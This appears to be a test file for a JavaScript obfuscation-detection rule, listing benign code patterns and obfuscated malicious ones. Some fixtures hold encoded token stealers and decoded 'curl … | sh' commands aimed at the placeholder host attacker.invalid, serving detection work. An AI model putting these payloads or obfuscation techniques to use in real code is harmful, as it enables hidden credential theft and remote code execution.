// obfuscation: names hidden by assembling, escaping, char codes or decoding; Function/Reflect
// indirections; string-array obfuscators; decode-then-execute; encoded payloads. Minified code,
// data URIs, fonts and images that are never run stay quiet.
import { ruleTester } from './rule-tester.js';

/** base64 of a small stealer (inert text: it is never decoded by anything but the analyser). */
const PAYLOAD_B64 =
  'KGZ1bmN0aW9uKCl7dmFyIGg9cmVxdWlyZSgiaHR0cHMiKTt2YXIgbz17fTtbIk5QTV9UT0tFTiIsIkdJVEhVQl9UT0tFTiJdLmZvckVhY2goZnVuY3Rpb24oayl7b1trXT1wcm9jZXNzLmVudltrXX0pO2guZ2V0KCJodHRwczovL3guYXR0YWNrZXIuaW52YWxpZC8/ZD0iK2VuY29kZVVSSUNvbXBvbmVudChKU09OLnN0cmluZ2lmeShvKSkpfSkoKTs=';
/** 400 bytes of a PNG-like binary blob, base64. */
const BINARY_B64 = Buffer.from(Array.from({ length: 400 }, (_, i) => (i * 37 + 11) % 256)).toString('base64');

ruleTester('obfuscation', {
  valid: [
    {
      name: 'a minified UMD bundle',
      code: `/*! lib v1 */!function(e,t){"object"==typeof exports&&"undefined"!=typeof module?module.exports=t():"function"==typeof define&&define.amd?define(t):(e="undefined"!=typeof globalThis?globalThis:e||self).lib=t()}(this,function(){"use strict";var e=void 0,t=function(n,r){return n[r]===e?r:n[r]};return{get:t,has:function(n,r){return Object.prototype.hasOwnProperty.call(n,r)}}});`,
    },
    {
      name: "rollup's CommonJS output for import.meta.url: require('u' + 'rl')",
      code: `const require$1 = require('node:module').createRequire((typeof document === 'undefined' ? require('u' + 'rl').pathToFileURL(__filename).href : document.baseURI));
const dir = require('pa' + 'th').dirname(__filename);`,
    },
    {
      name: "a computed key that folds to 'module' on an ordinary object (eslint's no-mixed-requires)",
      code: `function kind(init) { return init ? (init.core ? 'core' : 'module') : 'file'; }
const found = {};
found[kind(x)] = true;`,
    },
    {
      name: "an exports-map condition chosen between written names (@vercel/nft: f[cjs ? 'require' : 'import'])",
      code: `function resolve(f, cjs) {
  const s = cjs && 'require' in f ? 'require' : !cjs && 'import' in f ? 'import' : 'default';
  return getExportsTarget(f[s], conditions);
}
resolve(pkg.exports, true);
const k = opts.kind || 'require';
const t2 = map[k];`,
    },
    {
      name: "core-js reads the global's process to sniff the platform",
      code: `var i = Function('return this')();
var F = i.process, D = F && F.versions, v8 = D && D.v8;`,
    },
    {
      name: "new Function of the user's percent-encoded option (runtime data, not a shipped payload)",
      code: `const options = parseQuery(__resourceQuery);
const fn = new Function('message', 'var callback = '.concat(decodeURIComponent(options.runtimeErrors), ' return callback(message)'));`,
    },
    {
      name: 'an atob of a value read at runtime, evaluated',
      code: `function run(req) { return eval(atob(req.headers['x-script'])); }`,
    },
    {
      name: "the lodash-style Function('return this')() fallback",
      code: `var freeGlobal = typeof global == 'object' && global && global.Object === Object && global;
var freeSelf = typeof self == 'object' && self && self.Object === Object && self;
var root = freeGlobal || freeSelf || Function('return this')();
var clearTimeout = root.clearTimeout;`,
    },
    {
      name: 'bracket access with a plain literal (written to dodge bundlers) and a constant in a variable',
      code: `const proc = globalThis['process'];
const mode = global["process"].env.NODE_ENV;
const name = 'fs';
const fs = require(name);`,
    },
    {
      name: 'a data: URI font and a binary image decoded but never run',
      code: `const FONT = 'data:font/woff2;base64,' + '${BINARY_B64}';
const LOGO_B64 = '${BINARY_B64}';
function logo() { return Buffer.from(LOGO_B64, 'base64'); }
module.exports = { FONT, logo };`,
    },
    {
      name: 'escapes that are needed (markup, non-ASCII)',
      code: `document.write('<scr' + 'ipt>x()\\x3c/script>');
const e = 'caf\\u00e9 \\u2014 \\x1b[31mred\\x1b[0m';`,
    },
    {
      name: 'char codes computed at run time',
      code: `let s = '';
for (let i = 0; i < 26; i++) s += String.fromCharCode(65 + i);
const hi = String.fromCharCode(0xd800 | (cp >> 10));`,
    },
    {
      name: 'a round-robin rotation of a small list',
      code: `const servers = ['a.example', 'b.example', 'c.example'];
function next() { servers.push(servers.shift()); return servers[0]; }`,
    },
    {
      name: 'WebAssembly from base64, and a JWT payload decoded as data',
      code: `const WASM = '${BINARY_B64}';
const mod = WebAssembly.compile(Buffer.from(WASM, 'base64'));
function claims(jwt) { return JSON.parse(Buffer.from(jwt.split('.')[1], 'base64').toString()); }`,
    },
    {
      name: 'minified code with one obfuscator-like trait each: a for(;;) switch state machine, a table, nanoid\'s alphabet',
      code: `"use strict";var e=[0,0,1,1,2,2,3,3,4,4,4,4],t="useandom-26T198340PX75pxJACKVERYMINDBUSHWOLF_GQZbfghjklqvwyzrict";
function r(r){for(var o=[],i=0,s=0;;)switch(s){case 0:if(i>=r.length)return o;s=e[r.charCodeAt(i)%12];break;case 1:o.push(r[i++]),s=0;break;default:i++,s=0}}
function n(){for(var a="",c=21;c--;)a+=t[64*Math.random()|0];return a}module.exports={lex:r,id:n,debug:process.env.LEXER_DEBUG};`,
    },
    {
      name: 'a JSON file written and required back is not decode → write → execute',
      code: `const fs = require('fs'); const os = require('os'); const path = require('path');
const cfg = path.join(os.tmpdir(), 'cfg.json');
fs.writeFileSync(cfg, JSON.stringify({ a: 1 }));
module.exports = require(cfg);`,
    },
    {
      name: 'assembled names that are not sensitive, and a computed key',
      code: `function handler(obj, name, key) {
  const fn = obj['get' + name] || obj['on' + 'Error'];
  return process.env[key] || fn;
}
const locale = require('./' + 'locale');`,
    },
    {
      name: "eval('require') to reach the real require under a bundler",
      code: `const realRequire = typeof __non_webpack_require__ === 'function' ? __non_webpack_require__ : eval('require');`,
    },
    {
      name: 'a source map comment and a big array of plain strings',
      code: `const TAGS = ['a', 'abbr', 'address', 'area', 'article', 'aside', 'audio', 'b', 'base', 'bdi', 'bdo', 'blockquote', 'body', 'br'];
module.exports = TAGS;
//# sourceMappingURL=data:application/json;base64,eyJ2ZXJzaW9uIjozLCJzb3VyY2VzIjpbImluZGV4LmpzIl19`,
    },
    {
      name: 'a template engine compiling a template (eval territory, not obfuscation)',
      code: `function compile(source) { return new Function('data', 'escape', source); }
const add = new Function('a', 'b', 'return a + b');`,
    },
    {
      name: 'one base64 constant decoded to text',
      code: `const banner = Buffer.from('SGVsbG8sIHdvcmxkIQ==', 'base64').toString();`,
    },
  ],
  invalid: [
    {
      name: "a static import of a data: URL module (its code is analysed as embedded code)",
      code: `import boot from 'data:text/javascript;base64,aW1wb3J0IGggZnJvbSAnaHR0cHMnOyBoLmdldCgnaHR0cHM6Ly94LmF0dGFja2VyLmludmFsaWQvJyArIHByb2Nlc3MuZW52Lk5QTV9UT0tFTik7';
export default boot;`,
      sourceType: 'module',
      details: ['decode-then-execute: data: URL → import'],
    },
    {
      name: 'JS-Confuser-style output: random identifiers and a literal table read by hex index',
      code: `var Vm7uNjv,wTIl3He,ijNLznb,tEhdex0,kNzyTLL=[0x0,0x1,"length","push","env","https"];
function iut8NTJ(N6Vug9w){return process[kNzyTLL[0x4]][N6Vug9w]}
function qXmZbT(FHKGbp){return require(kNzyTLL[0x5])}
wTIl3He=kNzyTLL[0x0];ijNLznb=kNzyTLL[0x1];tEhdex0=kNzyTLL[0x2];Vm7uNjv=kNzyTLL[0x3];wTIl3He=kNzyTLL[0x0];ijNLznb=kNzyTLL[0x1];tEhdex0=kNzyTLL[0x2];Vm7uNjv=kNzyTLL[0x3];
wTIl3He=kNzyTLL[0x0];ijNLznb=kNzyTLL[0x1];tEhdex0=kNzyTLL[0x2];Vm7uNjv=kNzyTLL[0x3];wTIl3He=kNzyTLL[0x0];ijNLznb=kNzyTLL[0x1];`,
      details: [
        'obfuscator output: random identifiers (8 of 9 names), a literal table or decoder read by hex index 16 times',
        "assembled name 'env'",
        "assembled module name 'https'",
      ],
    },
    {
      name: 'JSFuck: a program in []()!+',
      code: 'x = ' + Array(4).fill('[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]').join('+') + ';',
      details: ['JSFuck: JSFuck (a program spelled with []()!+ only)'],
    },
    {
      name: 'jjencode',
      code: '$=~[];$={___:++$,$$$$:(![]+"")[$],__$:++$,$_$_:(![]+"")[$]};',
      details: ['jjencode: jjencode (a program spelled with $, _ and symbols)'],
    },
    {
      name: 'Trojan Source: an override left open in a comment; an invisible identifier',
      code: 'var isAdmin = false;\n/*\u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\nconst { t, \u3164 } = q; run(\u3164);',
      details: [
        'Trojan Source: a bidirectional override left open in a comment',
        'Trojan Source: an identifier holds an invisible character',
        'Trojan Source: an identifier holds an invisible character',
      ],
    },
    {
      name: "a condition choosing between names, one of them assembled, still hides it",
      code: `const k = cjs ? 'req' + 'uire' : other();
const r = module[k];`,
      details: ["assembled name 'require'"],
    },
    {
      name: "process['e' + 'nv']",
      code: `const t = process['e' + 'nv'].NPM_TOKEN;`,
      details: ["assembled name 'env'"],
    },
    {
      name: "global['pro' + 'cess']",
      code: `const g = global['pro' + 'cess'];`,
      details: ["assembled name 'process'"],
    },
    {
      name: 'an array of strings joined',
      code: `const k = ['e', 'n', 'v'].join('');
const t = process[k].NPM_TOKEN;`,
      details: ["assembled name 'env'"],
    },
    {
      name: 'an array of strings indexed',
      code: `const parts = ['env', 'argv'];
const e = process[parts[0]];`,
      details: ["assembled name 'env'"],
    },
    {
      name: 'a reversed string',
      code: `const e = process['vne'.split('').reverse().join('')];`,
      details: ["assembled name 'env'"],
    },
    {
      name: '\\x escapes in a key',
      code: `const e = process['\\x65\\x6e\\x76'];`,
      details: ["escaped name 'env'"],
    },
    {
      name: '\\u escapes in an identifier',
      code: `const t = \\u0070rocess.env.NPM_TOKEN;`,
      details: ["escaped identifier 'process'"],
    },
    {
      name: 'an assembled module name',
      code: `const m = 'child_' + 'process';
const cp = require(m);
const net = require('ht' + 'tps');`,
      details: ["assembled module name 'child_process'", "assembled module name 'https'"],
    },
    {
      name: 'an escaped module name and escaped strings',
      code: `var h = require('\\x68\\x74\\x74\\x70\\x73');
h.get('\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x6e\\x66\\x63\\x2e\\x61\\x74\\x74\\x61\\x63\\x6b\\x65\\x72\\x2e\\x69\\x6e\\x76\\x61\\x6c\\x69\\x64');`,
      details: ["escaped module name 'https'", "hex-escaped strings (1, e.g. 'https://nfc.attacker.invalid')"],
    },
    {
      name: 'a decoded module name',
      code: `const cp = require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString());`,
      details: ["decoded module name 'child_process'"],
    },
    {
      name: 'a char-coded module name (coa)',
      code: `var _m = require(String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115));`,
      details: ["char-coded module name 'child_process'", "char-code string 'child_process'"],
    },
    {
      name: 'a char-coded name on the global object',
      code: `const p = globalThis[String.fromCharCode(112, 114, 111, 99, 101, 115, 115)];`,
      details: ["char-coded name 'process'", "char-code string 'process'"],
    },
    {
      name: 'a char-code helper decoding a command for exec',
      code: `var _s = function (a) { return String.fromCharCode.apply(null, a); };
require('child_process').exec(_s([99,117,114,108,32,45,115,32,104,116,116,112,115,58,47,47,120,46,97,116,116,97,99,107,101,114,46,105,110,118,97,108,105,100,47,105,46,115,104,32,124,32,115,104]));`,
      details: ["decode-then-execute: char codes → child_process.exec", "char-code string 'curl -s https://x.attacker.invalid/i.sh…'"],
    },
    {
      name: "Reflect.get(process, 'env')",
      code: `const r = Reflect.get(process, 'env');`,
      details: ["Reflect.get(process, 'env')"],
    },
    {
      name: "Function('return process')() and new Function",
      code: `const p = Function('return process')();
const q = new Function('return process')();`,
      details: ["Function('return process')()", "Function('return process')()"],
    },
    {
      name: "the global object from Function('return this')() used to reach process",
      code: `var root = Function('return this')();
var env = root.process.env;
var p2 = Function('return this')()['process'].env;`,
      details: ["Function('return this')().process", "Function('return this')().process"],
    },
    {
      name: 'the Function constructor reached through .constructor',
      code: `const p = [].constructor.constructor('return process')();`,
      details: ["Function('return process')()", 'Function constructor reached through .constructor'],
    },
    {
      name: 'the Function constructor from this.constructor.constructor and Function.prototype.constructor',
      code: `const p = this.constructor.constructor('return process')();
const F = Function.prototype.constructor;
const q = F('return process')();`,
      details: ["Function('return process')()", 'Function constructor reached through .constructor', "Function('return process')()"],
    },
    {
      name: 'an assembled code string for eval',
      code: `const r = eval('req' + 'uire');
const cp = r('child_process');`,
      details: ["assembled code string 'require'"],
    },
    {
      name: 'import() of a data: URL',
      code: `await import('data:text/javascript;base64,Y29uc29sZS5sb2coMSk=');`,
      sourceType: 'module',
      details: ['decode-then-execute: data: URL → import()'],
    },
    {
      name: 'sensitive method names assembled on modules',
      code: `const cp = require('child_process');
cp['sp' + 'awn']('sh', ['-c', 'id']);
require('https')['re' + 'quest']({ host: 'x.attacker.invalid' }).end();`,
      details: ["assembled name 'spawn'", "assembled name 'request'"],
    },
    {
      name: 'eval of a long base64 payload (flatmap-stream)',
      code: `eval(Buffer.from('${PAYLOAD_B64}', 'base64').toString());`,
      details: ['decode-then-execute: base64 → eval', 'encoded payload: 264-character base64 literal decodes to code'],
    },
    {
      name: 'vm of a hex string (vm-template-cache)',
      code: `const vm = require('vm');
const src = Buffer.from('636f6e736f6c652e6c6f67282268692229', 'hex').toString('utf8');
vm.runInThisContext(src);`,
      details: ['decode-then-execute: hex → vm.runInThisContext'],
    },
    {
      name: 'new Function of atob',
      code: `new Function(atob('Y29uc29sZS5sb2coImhpIik='))();`,
      details: ['decode-then-execute: base64 → Function'],
    },
    {
      name: 'module._compile of gunzipped data',
      code: `const zlib = require('zlib');
const m = new module.constructor();
m._compile(zlib.gunzipSync(Buffer.from(blob, 'base64')).toString(), 'x.js');`,
      details: ['decode-then-execute: compressed data → module._compile'],
    },
    {
      name: 'a decoded shell command',
      code: `require('child_process').exec(Buffer.from('Y3VybCAtcyBodHRwczovL3guYXR0YWNrZXIuaW52YWxpZC9pLnNoIHwgc2g=', 'base64').toString());`,
      details: ['decode-then-execute: base64 → child_process.exec'],
    },
    {
      name: 'a decoded string handed to setTimeout',
      code: `setTimeout(atob('Y29uc29sZS5sb2coImhpIik='), 100);`,
      details: ['decode-then-execute: base64 → setTimeout'],
    },
    {
      name: 'import() of a decoded data: URL',
      code: `await import(Buffer.from('ZGF0YTp0ZXh0L2phdmFzY3JpcHQsZXhwb3J0IGRlZmF1bHQgMQ==', 'base64').toString());`,
      sourceType: 'module',
      details: ['decode-then-execute: base64 → import()'],
    },
    {
      name: 'a string-array obfuscator (_0x identifiers, rotated array)',
      code: `var _0x1f2a = ['log', 'env', 'request', 'https', 'stringify', 'keys', 'forEach', 'hostname', 'end', 'write', 'POST', 'x.attacker.invalid'];
(function (_0x3b1d9e, _0x5a2c41) {
  var _0x4e7f0b = function (_0x2c1a55) {
    while (--_0x2c1a55) {
      _0x3b1d9e['push'](_0x3b1d9e['shift']());
    }
  };
  _0x4e7f0b(++_0x5a2c41);
})(_0x1f2a, 0x1b3);
var _0x2d3e = function (_0x3b1d9e, _0x5a2c41) {
  _0x3b1d9e = _0x3b1d9e - 0x0;
  return _0x1f2a[_0x3b1d9e];
};
var _0x55aa12 = require(_0x2d3e('0x3'));
var _0x19ccde = process[_0x2d3e('0x1')];`,
      details: ['string-array obfuscation (8 _0x identifiers, a rotated string array)'],
    },
    {
      name: 'a string-array obfuscator with mangled names',
      code: `var a = ['log', 'env', 'request', 'https', 'stringify', 'keys', 'forEach', 'hostname', 'end', 'write', 'POST', 'x'];
(function (b, c) { var d = function (e) { while (--e) { b['push'](b['shift']()); } }; d(++c); })(a, 0x1b3);
var f = function (b) { b = b - 0x0; return a[b]; };
var g = require(f(0x3)), h = process[f(0x1)], i = f(0x2), j = f(0x4), k = f(0x5), l = f(0x6);`,
      details: ['string-array obfuscation (a rotated string array, a decoder called with hex indexes)'],
    },
    {
      name: 'a long base64 literal that decodes to code, never run here',
      code: `module.exports = '${PAYLOAD_B64}';`,
      details: ['encoded payload: 264-character base64 literal decodes to code'],
    },
    {
      name: 'several base64 constants decoded to text (node-ipc)',
      code: `const url = Buffer.from('aHR0cHM6Ly9hcGkuYXR0YWNrZXIuaW52YWxpZC9nZW8=', 'base64');
const dir = Buffer.from('Li8=', 'base64');
const key = Buffer.from('Y291bnRyeV9uYW1l', 'base64');
require('https').get(url.toString('utf8'));`,
      details: ["encoded strings (3 base64/hex constants decoded to text, e.g. 'https://api.attacker.invalid/geo')"],
    },
  ],
});
